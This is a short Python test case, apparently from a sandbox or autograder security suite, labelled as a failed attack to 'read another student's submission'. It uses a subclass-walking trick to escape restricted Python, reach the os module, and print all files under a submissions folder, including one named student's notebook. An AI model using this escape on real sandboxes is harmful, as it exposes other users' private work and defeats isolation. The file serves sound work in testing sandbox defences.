# /// attack
# rows = [23]
# title = "read another student's submission"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for folder, _, names in os.walk("COURSE/submitted"):
    for name in names:
        print(open(os.path.join(folder, name)).read())
print(open("COURSE/submitted/ada/corr2d/corr2d.ipynb").read())
